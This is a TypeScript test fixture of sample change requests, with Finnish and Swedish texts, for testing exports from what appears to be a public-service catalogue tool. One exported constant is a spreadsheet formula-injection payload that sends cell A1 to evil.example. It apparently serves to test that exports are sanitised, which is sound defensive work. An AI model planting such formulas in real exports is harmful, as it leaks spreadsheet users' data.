/**
 * Change requests for the export tests, on the review fixture (region 01): one per
 * recipient kind, a formula in a reason, a service named with a script tag, a new
 * description with both languages' texts, and a draft that default exports leave out.
 */
import { writeTransaction, type DbHandle } from '../../db/client';
import { insertChangeRequest, type ChangeRequestRecord, type NewChangeRequest } from '../../db/queries/change-requests';
import { digifinlandRecipient } from '../../shared/domain/change-request';
import { CLOCK, K1, ORG_NGO, ORG_TOWN, REGION, S1, S2, S6 } from './review-fixture';

export const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klikkaa")';

const base = { regionCode: REGION, sourceFlagId: null, sourceDescriptionRequestId: null, sourceProposalId: null, baseSnapshotId: 1, createdBy: 'Päivi Pääkäyttäjä', createdAt: CLOCK.toISOString() } as const;

export const fixtureRequests: NewChangeRequest[] = [
  {
    ...base,
    type: 'service.removeItem',
    recipient: { kind: 'organization', organizationId: ORG_TOWN, name: 'Esimerkkikunta', email: 'kirjaamo@esimerkkikunta.fi' },
    serviceId: S1,
    itemKind: 'keywords',
    itemValue: K1,
    reason: HYPERLINK,
    details: {},
    state: 'ready',
    articleIds: ['a1', 'a3'],
  },
  {
    ...base,
    type: 'service.removeItem',
    recipient: { kind: 'organization', organizationId: ORG_NGO, name: 'Perheyhdistys ry', email: null },
    serviceId: S6,
    itemKind: 'targetGroups',
    itemValue: 'KR2',
    reason: 'Vertaistuki ei ole "vauvan uni" -palvelu; poista kohderyhmä.',
    details: {},
    state: 'ready',
    articleIds: ['a1'],
  },
  {
    ...base,
    type: 'rule.pin',
    recipient: digifinlandRecipient,
    serviceId: S2,
    itemKind: null,
    itemValue: null,
    reason: 'Valtakunnallinen palvelu kuuluu artikkeliin Unikoulu.',
    details: {},
    state: 'ready',
    articleIds: ['a2'],
  },
  {
    ...base,
    type: 'description.new',
    recipient: { kind: 'county', organizationId: null, name: 'Itä-Uudenmaan hyvinvointialue', email: 'palvelutiedot@example.fi' },
    serviceId: null,
    itemKind: null,
    itemValue: null,
    reason: 'Perhetyön kuvaus puuttuu.',
    details: {
      texts: {
        nameFi: 'Perhetyö',
        nameSv: 'Familjearbete',
        summaryFi: 'Kotiin tuleva tuki lapsiperheille.',
        summarySv: 'Stöd i hemmet för barnfamiljer.',
        descriptionFi: 'Perhetyöntekijä tulee kotiin.\nKäynnit sovitaan yhdessä.',
        descriptionSv: 'En familjearbetare kommer hem till er.',
      },
      organizationName: 'Itä-Uudenmaan hyvinvointialue',
    },
    state: 'ready',
    articleIds: ['a4'],
  },
  {
    ...base,
    type: 'service.addItem',
    recipient: { kind: 'organization', organizationId: ORG_TOWN, name: 'Esimerkkikunta', email: 'kirjaamo@esimerkkikunta.fi' },
    serviceId: S1,
    itemKind: 'serviceClasses',
    itemValue: 'P9.1',
    reason: 'Luonnos, ei vielä lähetetä.',
    details: {},
    state: 'draft',
    articleIds: ['a4'],
  },
];

/** Stores the fixture's requests (codes LP-2026-0001 …) and returns them. */
export function insertFixtureRequests(handle: DbHandle, requests: readonly NewChangeRequest[] = fixtureRequests): ChangeRequestRecord[] {
  return writeTransaction(handle, () => requests.map((request) => insertChangeRequest(handle, request)));
}
